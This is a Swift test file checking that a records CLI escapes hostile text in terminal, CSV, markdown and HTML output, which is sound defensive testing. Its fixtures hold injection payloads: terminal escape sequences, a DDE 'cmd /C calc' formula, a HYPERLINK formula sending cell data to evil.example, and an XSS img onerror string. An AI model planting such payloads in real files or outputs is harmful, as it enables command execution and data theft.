import Foundation
import RISKit
import XCTest

/// Text from records (a cloned repository) reaches a terminal, a spreadsheet or a rendered
/// markdown file only as text, never as code; JSON keeps it exact. Through the built binary.
final class OutputInjectionTests: XCTestCase {
    static let esc = "\u{1B}"
    static let osc52 = "\(esc)]52;c;ZWNobyBwd25lZA==\u{07}"
    static let osc8 = "\(esc)]8;;https://evil.example/\(esc)\\click\(esc)]8;;\(esc)\\"
    static let osc0 = "\(esc)]0;owned\u{07}"
    static let clear = "\(esc)[2J"
    static let up = "\(esc)[1A\(esc)[2K"
    static let rlo = "\u{202E}"

    static let terminalID = "RIS-901\(clear)"
    static let terminalTitle = "Deploy \(osc52) failed \(osc8) \(rlo)txt.exe \(osc0)\u{9B}2J"
    static let formulaTitle = #"=HYPERLINK("https://evil.example/?q="&A1,"Details")"#
    static let markdownTitle = "Row\rsplit | pipe <img src=x onerror=alert(1)> & [link](https://evil.example) |\u{301}"

    var folder: TemporaryFolder!

    /// A YAML double-quoted scalar; controls (which YAML does not allow raw) as `\uXXXX` escapes.
    func yaml(_ text: String) -> String {
        var out = "\""
        for scalar in text.unicodeScalars {
            switch scalar {
            case "\"", "\\": out += "\\" + String(scalar)
            case _ where UntrustedText.isUnsafe(scalar): out += String(format: "\\u%04X", scalar.value)
            default: out.unicodeScalars.append(scalar)
            }
        }
        return out + "\""
    }

    override func setUpWithError() throws {
        folder = try TemporaryFolder()
        XCTAssertEqual(try Binary.run(["init"], in: folder.url).status, 0)
        let esc = Self.esc
        try folder.write(
            "docs/06-ris/resolutions/RIS-901-terminal.md",
            """
            ---
            id: \(yaml(Self.terminalID))
            title: \(yaml(Self.terminalTitle))
            created: '2026-01-05'
            tags: [\(yaml("tag\(Self.rlo)gat"))]
            compliance:
              hipaa:
                controls: [\(yaml("164.312(b)" + Self.clear))]
                retention-period: 7-years
                review-frequency: quarterly
                classification: \(yaml("internal" + Self.osc8))
                access-audit-required: true
            ---
            # Deploy failed

            **Severity:** HIGH\(Self.up)
            **Owner:** ops\(Self.osc0)team

            ## Symptom

            The deploy failed \(Self.osc52) with \(Self.clear) and \(Self.up) and \(Self.rlo)override, \
            \(esc)[31mred\(esc)[0m.

            ## Timeline

            | Time | Event |
            |------|-------|
            | 09:10\(Self.clear) | Event \(Self.osc8) |

            ## Hot Pattern Entry

            ````markdown
            ## Deploy loop \(Self.osc52)

            **Keywords:** deploy\(Self.up), loop\(Self.rlo)

            **Solution:**
            ```bash
            kubectl rollout undo \(Self.up)
            ```

            **Hit Count:** 3
            **Last Used:** 2026-01-05
            ````
            """)
        try folder.write(
            "docs/06-ris/resolutions/RIS-902-csv.md",
            """
            ---
            id: RIS-902
            title: \(yaml(Self.formulaTitle))
            created: '2026-01-06'
            reviewed-by: \(yaml("Dana\r\n=1+1"))
            compliance:
              hipaa:
                controls: [\(yaml(#"=HYPERLINK("https://evil.example","x")"#))]
                retention-period: 7-years
                review-frequency: quarterly
                classification: \(yaml("+cmd|' /C calc'!A0"))
                phi-contains: "-12"
                evidence-type: \(yaml("\t=1+1"))
            ---
            # Formula

            **Severity:** LOW

            ---

            **Sign-Off:** @SUM(1+1)*cmd|' /C calc'!A0
            """)
        try folder.write(
            "docs/06-ris/resolutions/RIS-903-markdown.md",
            """
            ---
            id: RIS-903
            title: \(yaml(Self.markdownTitle))
            created: '2026-01-07'
            compliance:
              soc2:
                controls: [CC7.3]
                retention-period: 7-years
                review-frequency: annual
            ---
            # Markdown

            **Severity:** LOW
            """)
        // File names are text from the repository too.
        try folder.write(
            "docs/06-ris/resolutions/RIS-904-\(esc)]0;owned\u{07}.md",
            "# RIS-904: Formula named by the file\n\n**Severity:** LOW\n")
        try folder.write(
            "docs/06-ris/resolutions/RIS-905-\r\n=3+3.md", "# RIS-905: Formula by file name\n\n**Severity:** LOW\n")
        try folder.write(
            ".claude/memory/hot-patterns.md",
            """
            # Hot Patterns

            ## Token expired \(Self.osc52)\(Self.rlo)

            **Keywords:** token\(Self.clear), expired
            **Symptom:** denied \(Self.up)
            **Solution:** log in again \(Self.osc0)
            **Hit Count:** 1
            **Last Used:** 2026-01-02

            """)
    }

    func run(_ arguments: [String], environment: [String: String] = [:]) throws -> RunResult {
        let result = try Binary.run(arguments, in: folder.url, environment: environment)
        XCTAssertFalse(result.stderr.contains("Fatal error"), result.stderr)
        return result
    }

    /// The first scalar a terminal would act on: controls but tab, LF and CR LF; C1; bidi overrides and isolates.
    func rawControl(_ text: String) -> String? {
        let scalars = Array(text.unicodeScalars)
        for (index, scalar) in scalars.enumerated() where UntrustedText.isUnsafe(scalar) {
            if scalar == "\t" || scalar == "\n" { continue }
            if scalar == "\r", index + 1 < scalars.count, scalars[index + 1] == "\n" { continue }
            return String(format: "U+%04X at %d", scalar.value, index)
        }
        return nil
    }

    // MARK: Terminals

    func testHumanReadableOutputsShowEscapesInsteadOfSequences() throws {
        let commands: [[String]] = [
            ["index"], ["search", "deploy"], ["search", "formula"], ["list"], ["show", "RIS-901"], ["show", "RIS-904"],
            ["similar", "RIS-902"],
            ["parse", "docs"], ["check", "--as-of", "2026-03-31"], ["pattern", "list"],
            ["pattern", "show", "deploy loop"],
            ["pattern", "show", "token expired"], ["show", "RIS-90"],
            ["audit", "log"],  // the reads of RIS-901 above, with its ID and path
        ]
        for arguments in commands {
            let result = try run(arguments)
            XCTAssertNil(
                rawControl(result.stdout),
                "ris \(arguments.joined(separator: " ")) printed a raw control on stdout: "
                    + "\(result.stdout.debugDescription)"
            )
            XCTAssertNil(
                rawControl(result.stderr),
                "ris \(arguments.joined(separator: " ")) printed a raw control on stderr: "
                    + "\(result.stderr.debugDescription)"
            )
        }
        let page = try run(["show", "RIS-901"]).stdout
        for escaped in [
            #"RIS-901\e[2J: Deploy \e]52;c;ZWNobyBwd25lZA==\a failed \e]8;;https://evil.example/\e\click"#
                + #"\e]8;;\e\ \u{202E}txt.exe \e]0;owned\a\u{9B}2J"#,
            #"Severity: HIGH\e[1A\e[2K"#, #"Owner:    ops\e]0;owned\ateam"#, #"\e[31mred\e[0m"#,
            #"09:10\e[2J  Event \e]8;;"#,
            #"keywords:  deploy\e[1A\e[2K, loop\u{202E}"#, #"kubectl rollout undo \e[1A\e[2K"#,
            #"tags: tag\u{202E}gat"#,
            #"classification internal\e]8;;"#,
        ] {
            XCTAssertTrue(page.contains(escaped), "show lacks \(escaped): \(page)")
        }
        let check = try run(["check", "--as-of", "2026-03-31"]).stdout
        XCTAssertTrue(check.contains(#"[control-unknown] 164.312(b)\e[2J is not a hipaa control"#), check)
        XCTAssertTrue(check.contains(#"docs/06-ris/resolutions/RIS-904-\e]0;owned\a.md:1:1:"#), check)
        XCTAssertTrue(
            check.contains(#"docs/06-ris/resolutions/RIS-905-\r\n=3+3.md:1:1:"#),
            "a line break in a file name cannot start a line: \(check)")
        XCTAssertTrue(
            try run(["audit", "log"]).stdout.contains(
                #"read:show  RIS-901\e[2J  docs/06-ris/resolutions/RIS-901-terminal.md"#))
        let patterns = try run(["pattern", "list"]).stdout
        let patternLine = try XCTUnwrap(patterns.split(separator: "\n").first { $0.contains("Token expired") })
        XCTAssertTrue(
            patternLine.contains(#"Token expired \e]52;c;ZWNobyBwd25lZA==\a\u{202E}  "#), "\(patternLine)")
        XCTAssertTrue(patternLine.hasSuffix("  .claude/memory/hot-patterns.md:3"), "\(patternLine)")
        let parsed = try run(["parse", "docs"]).stdout
        XCTAssertTrue(parsed.contains(#"  id:        RIS-901\e[2J"#), parsed)
        XCTAssertTrue(parsed.contains(#"docs/06-ris/resolutions/RIS-905-\r\n=3+3.md"#), parsed)
    }

    func testTableCellsAreCutOnTheEscapedTextBetweenUnits() throws {
        // The title column is 70 wide: 69 columns and `…`.
        let cases: [(title: String, shown: String)] = [
            (String(repeating: "B", count: 66) + Self.rlo + "tail", String(repeating: "B", count: 66) + "…"),
            // A flag takes two columns.
            (
                String(repeating: "C", count: 67) + "🇫🇷🇫🇷 tail",
                String(repeating: "C", count: 67) + "🇫🇷…"
            ),
            (String(repeating: "D", count: 67) + Self.clear + " tail", String(repeating: "D", count: 67) + #"\e…"#),
            (
                String(repeating: "E", count: 67) + "e\u{301}\u{302}" + "x tail",
                String(repeating: "E", count: 67) + "e\u{301}\u{302}x…"
            ),
        ]
        for (index, item) in cases.enumerated() {
            try folder.write(
                "docs/06-ris/resolutions/RIS-95\(index).md",
                "---\nid: RIS-95\(index)\ntitle: \(yaml(item.title))\n---\n# t\n")
        }
        let listed = try run(["list", "--sort", "id"]).stdout
        XCTAssertNil(rawControl(listed))
        for (index, item) in cases.enumerated() {
            let line = try XCTUnwrap(listed.split(separator: "\n").first { $0.hasPrefix("RIS-95\(index) ") }, listed)
            XCTAssertTrue(line.hasSuffix(item.shown), "title \(index) cut as \(line.debugDescription)")
        }
        // The other columns line up on the escaped IDs.
        let header = try XCTUnwrap(listed.split(separator: "\n").first)
        let row = try XCTUnwrap(listed.split(separator: "\n").first { $0.hasPrefix(#"RIS-901\e[2J"#) })
        XCTAssertEqual(
            header.firstRange(of: "DATE")?.lowerBound.utf16Offset(in: header),
            row.firstRange(of: "2026-01-05")?.lowerBound.utf16Offset(in: row))
    }

    func testColoursAddedByRisStayIntact() throws {
        // `script` gives ris a terminal, where it colours its own output.
        guard FileManager.default.isExecutableFile(atPath: "/usr/bin/script") else { throw XCTSkip("no script(1)") }
        _ = try run(["index"])
        for arguments in [
            ["search", "deploy", "--no-refresh"], ["show", "RIS-901", "--no-refresh"],
            ["check", "--as-of", "2026-03-31"],
        ] {
            let command = ([Binary.risURL.path] + arguments).map { "'\($0)'" }.joined(separator: " ")
            let result = try Binary.runProgram(
                "/usr/bin/script", ["-qec", command, "/dev/null"], in: folder.url,
                environment: ["NO_COLOR": "", "TERM": "xterm"])
            let colours = try Regex(#"\u{1B}\[[0-9;]*m"#)
            XCTAssertTrue(result.stdout.contains(colours), "no colour on a terminal: \(result.stdout.debugDescription)")
            XCTAssertNil(
                rawControl(result.stdout.replacing(colours, with: "").replacingOccurrences(of: "\r\n", with: "\n")),
                "only ris's own colours may reach the terminal: \(result.stdout.debugDescription)")
        }
    }

    func testJSONKeepsTheExactText() throws {
        let listed = try XCTUnwrap(
            try JSONSerialization.jsonObject(with: try run(["list", "--format", "json"]).stdoutData) as? [[String: Any]]
        )
        let titles = Dictionary(
            listed.map { ($0["id"] as? String ?? "", $0["title"] as? String ?? "") }, uniquingKeysWith: { a, _ in a })
        XCTAssertEqual(titles[Self.terminalID], Self.terminalTitle)
        XCTAssertEqual(titles["RIS-902"], Self.formulaTitle)
        XCTAssertEqual(titles["RIS-903"], Self.markdownTitle)
        let shown = try XCTUnwrap(
            try JSONSerialization.jsonObject(with: try run(["show", "RIS-901", "--format", "json"]).stdoutData)
                as? [String: Any])
        XCTAssertEqual(shown["title"] as? String, Self.terminalTitle)
        XCTAssertEqual(shown["id"] as? String, Self.terminalID)
        let lines = try run(["search", "formula", "--format", "jsonl"]).stdout.split(separator: "\n")
        let titlesFound = try lines.map {
            try XCTUnwrap(try JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any])["title"] as? String
        }
        XCTAssertTrue(titlesFound.contains(Self.formulaTitle), "\(titlesFound)")
        let export = try XCTUnwrap(
            try JSONSerialization.jsonObject(
                with: try run(["review", "export", "--quarter", "2026-Q1", "--format", "json"]).stdoutData)
                as? [String: Any])
        let records = try XCTUnwrap(export["records"] as? [[String: Any]])
        XCTAssertEqual(records.first { $0["id"] as? String == "RIS-902" }?["reviewedBy"] as? String, "Dana\r\n=1+1")
    }

    // MARK: Spreadsheets

    /// The rows of a CSV file as Python's csv module reads them.
    func readCSV(_ text: String) throws -> [[String]] {
        let file = try folder.write("out.csv", text)
        let script =
            "import csv, json, sys; print(json.dumps(list(csv.reader(open(sys.argv[1], newline='', "
            + "encoding='utf-8')))))"
        let result = try Binary.runProgram("/usr/bin/env", ["python3", "-c", script, file.path], in: folder.url)
        XCTAssertEqual(result.status, 0, result.stderr)
        return try XCTUnwrap(try JSONSerialization.jsonObject(with: result.stdoutData) as? [[String]])
    }

    /// What a cell must hold for `value`: the value, behind `'` when a spreadsheet would run it.
    func expectedCell(_ value: String) -> String {
        // Every piece a spreadsheet splitting on `;` or tab would make starts neutral too.
        var pieces = String.UnicodeScalarView()
        var afterSeparator = false
        for scalar in value.unicodeScalars {
            if afterSeparator, "=+-@\r\n\u{FF1D}\u{FF0B}\u{FF0D}\u{FF20}".unicodeScalars.contains(scalar) {
                pieces.append("'")
            }
            if scalar == ";" || scalar == "\t" {
                afterSeparator = true
            } else if scalar != " " && scalar != "\"" {
                afterSeparator = false
            }
            pieces.append(scalar)
        }
        let neutral = String(pieces)
        guard let first = neutral.unicodeScalars.first(where: { $0 != " " }),
            "=+-@\t\r\n".unicodeScalars.contains(first)
        else { return neutral }
        return neutral.wholeMatch(of: /[+-]?[0-9]+(\.[0-9]+)?/) != nil ? neutral : "'" + neutral
    }

    func testSearchCSVCellsAreNeutralisedAndQuoted() throws {
        for query in ["formula", "deploy"] {
            let hits = try XCTUnwrap(
                try JSONSerialization.jsonObject(with: try run(["search", query, "--format", "json"]).stdoutData)
                    as? [[String: Any]])
            let csv = try run(["search", query, "--format", "csv"]).stdout
            let rows = try readCSV(csv)
            XCTAssertEqual(rows.count, hits.count + 1, "one row per hit, and the header: \(csv.debugDescription)")
            for (row, hit) in zip(rows.dropFirst(), hits) {
                guard row.count == 9 else {
                    XCTFail("9 cells: \(row)")
                    continue
                }
                let values = ["id", "title", "path", "kind", "date", "severity", "status"].map {
                    hit[$0] as? String ?? ""
                }
                XCTAssertEqual(Array(row.prefix(7)), values.map(expectedCell))
                XCTAssertEqual(row[8], expectedCell(hit["snippet"] as? String ?? ""))
            }
        }
        let csv = try run(["search", "formula", "--format", "csv"]).stdout
        XCTAssertTrue(csv.contains(#"'=HYPERLINK(""https://evil.example/?q=""&A1,""Details"")""#), csv)
        XCTAssertTrue(
            csv.contains("\"docs/06-ris/resolutions/RIS-905-\r\n=3+3.md\""),
            "a CR LF in a path is quoted: \(csv.debugDescription)")
    }

    func testReviewExportCSVCellsAreNeutralisedAndQuoted() throws {
        let export = try XCTUnwrap(
            try JSONSerialization.jsonObject(
                with: try run(["review", "export", "--quarter", "2026-Q1", "--format", "json"]).stdoutData)
                as? [String: Any])
        let records = try XCTUnwrap(export["records"] as? [[String: Any]])
        let keys = [
            "id", "title", "path", "frameworks", "controls", "classification", "phiClass", "encryptionRequired",
            "accessAuditRequired",
            "evidenceType", "retentionPeriod", "retentionUntil", "retentionState", "reviewFrequency", "lastReviewed",
            "reviewedBy",
            "nextDue", "reviewState", "signOff", "findings", "kind", "sha256",
        ]
        let rows = try readCSV(try run(["review", "export", "--quarter", "2026-Q1", "--format", "csv"]).stdout)
        XCTAssertEqual(rows.count, records.count + 1, "a CR LF cannot forge a row")
        for (row, record) in zip(rows.dropFirst(), records) {
            XCTAssertEqual(row.count, keys.count)
            for (cell, key) in zip(row, keys) {
                let value: String
                switch key {
                case "frameworks", "controls": value = (record[key] as? [String] ?? []).joined(separator: "; ")
                case "encryptionRequired", "accessAuditRequired": value = String(record[key] as? Bool ?? false)
                case "findings": value = String(record[key] as? Int ?? -1)
                default: value = record[key] as? String ?? ""
                }
                XCTAssertEqual(cell, expectedCell(value), "\(record["id"] ?? "?").\(key)")
            }
        }
        let formula = try XCTUnwrap(rows.first { $0.first == "RIS-902" })
        guard formula.count == keys.count else { return XCTFail("\(keys.count) cells: \(formula)") }
        XCTAssertEqual(formula[1], "'" + Self.formulaTitle)
        XCTAssertEqual(formula[5], "'+cmd|' /C calc'!A0")
        XCTAssertEqual(formula[6], "-12", "a negative number stays a number")
        XCTAssertEqual(formula[9], "'\t'=1+1", "a spreadsheet splitting on tab would make =1+1 a cell of its own")
        XCTAssertEqual(formula[16], "2026-04-06", "dates are left alone")
        XCTAssertEqual(formula[15], "Dana\r\n=1+1", "quoted, so the formula after the line break stays inside the cell")
        XCTAssertEqual(formula[18], "'@SUM(1+1)*cmd|' /C calc'!A0")
    }

    func testCSVRule() {
        XCTAssertEqual(CSV.cell("=1+1"), "'=1+1")
        XCTAssertEqual(CSV.cell("  =1+1"), "'  =1+1", "leading spaces do not hide a formula")
        XCTAssertEqual(CSV.cell("\u{FF1D}1+1"), "'\u{FF1D}1+1", "nor the full-width sign")
        XCTAssertEqual(CSV.cell("-12"), "-12")
        XCTAssertEqual(CSV.cell("+3"), "+3")
        XCTAssertEqual(CSV.cell("-0.5"), "-0.5")
        XCTAssertEqual(CSV.cell("-1+1"), "'-1+1")
        XCTAssertEqual(CSV.cell("-"), "'-")
        XCTAssertEqual(CSV.cell("2026-03-31"), "2026-03-31")
        XCTAssertEqual(CSV.cell("a\r\nb"), "\"a\r\nb\"", "CR LF is one Character but two scalars")
        XCTAssertEqual(CSV.cell("a\rb"), "\"a\rb\"")
        XCTAssertEqual(
            CSV.cell("say \"\u{301}hi\""), "\"say \"\"\u{301}hi\"\"\"", "a quote with a combining mark is still a quote"
        )
        XCTAssertEqual(CSV.cell("@x,y"), "\"'@x,y\"")
        XCTAssertEqual(CSV.row(["a", "=b", "c,d"]), "a,'=b,\"c,d\"")
        // A spreadsheet splitting on `;` or tab ignores the comma quoting mid-line: each piece is neutral.
        XCTAssertEqual(CSV.cell("Outage;=cmd"), "\"Outage;'=cmd\"")
        XCTAssertEqual(CSV.cell("Outage; \"@x"), "\"Outage;' \"\"@x\"")
        XCTAssertEqual(CSV.cell("ok\t+1"), "\"ok\t'+1\"")
        XCTAssertEqual(CSV.cell("hipaa; soc2"), "\"hipaa; soc2\"", "a ; before plain text changes nothing")
    }

    // MARK: Markdown and HTML

    func testMarkdownAndHTMLExportsKeepTheirRowsAndShowNoMarkup() throws {
        let markdown = try run(["review", "export", "--quarter", "2026-Q1", "--format", "md"]).stdout
        XCTAssertNil(rawControl(markdown))
        let section = try XCTUnwrap(
            markdown.components(separatedBy: "## Records").last?.components(separatedBy: "## Details").first)
        // Every line end a markdown parser sees (CR, LF, CR LF) counts.
        let lines = section.split(whereSeparator: { $0 == "\n" || $0 == "\r" || $0 == "\r\n" }).filter {
            !$0.trimmingCharacters(in: .whitespaces).isEmpty
        }
        // Five records: the two without compliance metadata are listed too ("missing metadata").
        XCTAssertEqual(lines.count, 2 + 5, "header, delimiter and five records: \(section.debugDescription)")
        func separators(_ line: Substring) -> Int {
            var count = 0
            var escaped = false
            for scalar in line.unicodeScalars {
                if scalar == "|" && !escaped { count += 1 }
                escaped = scalar == "\\" && !escaped
            }
            return count
        }
        XCTAssertEqual(Set(lines.map(separators)), [8], "seven cells in every row")
        XCTAssertFalse(markdown.contains("<img"), markdown)
        XCTAssertTrue(
            markdown.contains(
                #"Row split \| pipe &lt;img src=x onerror=alert(1)&gt; &amp; \[link\](https://evil.example) \|"#
                    + "\u{301} |"), markdown)
        XCTAssertTrue(markdown.contains(#"RIS-901\e\[2J"#), markdown)

        let html = try run(["review", "export", "--quarter", "2026-Q1", "--format", "html"]).stdout
        XCTAssertNil(rawControl(html))
        XCTAssertFalse(html.contains("<img"), html)
        XCTAssertTrue(
            html.contains(
                #"<td>Row\rsplit | pipe &lt;img src=x onerror=alert(1)&gt; &amp; [link](https://evil.example) |"#
                    + "\u{301}</td>"), html)
        XCTAssertTrue(html.contains(#"<td>Deploy \e]52;c;ZWNobyBwd25lZA==\a failed"#), html)
        // One row each in the records table and in the list of what needs action (RIS-901 and
        // RIS-902 cite unknown controls, RIS-904 and RIS-905 have no compliance block).
        XCTAssertEqual(html.components(separatedBy: "<tr><td><a href=\"#record-").count - 1, 5 + 4)
        XCTAssertEqual(html.components(separatedBy: "<section class=\"record\" id=\"record-").count - 1, 5)
    }
}
